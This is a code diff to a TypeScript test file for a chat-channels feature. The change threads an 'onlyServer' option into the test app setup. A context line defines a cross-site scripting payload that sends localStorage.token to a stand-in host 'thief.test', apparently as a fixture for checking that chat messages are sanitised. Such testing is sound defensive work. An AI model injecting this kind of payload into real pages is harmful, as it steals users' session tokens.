@@ -12,6 +12,7 @@ import { createChatTell } from '#server/jobs/chat-tell.ts'
 import { type RunningSandbox, startSandbox, storeIdOf } from '#tests/sandbox/start-sandbox.ts'
 import { startApp, type TestApp } from '#tests/support/app.ts'
 import { testPassword } from '#tests/support/builders.ts'
+import { onlyServer } from '#tests/support/only-server.ts'
 import { chatChannels } from './connected-channels.ts'
 
 const script = '<script>fetch("https://thief.test/"+localStorage.token)</script>'
@@ -59,7 +60,9 @@ beforeAll(async () => {
     save: async () => {},
     expired: async () => {},
   }
-  app = await startApp({ channels: connectChannels(Object.fromEntries(marketplaces.map((name) => [name, running.account(name)])), credentials) })
+  app = await startApp({
+    channels: connectChannels(Object.fromEntries(marketplaces.map((name) => [name, running.account(name)])), credentials, onlyServer),
+  })
   workspaceId = (await app.build.workspace()).workspace_id
   for (const marketplace of marketplaces)
     await app.build.store({ workspace_id: workspaceId, marketplace, store_id: storeIdOf(marketplace), store_code: storeCodeOf(marketplace) })
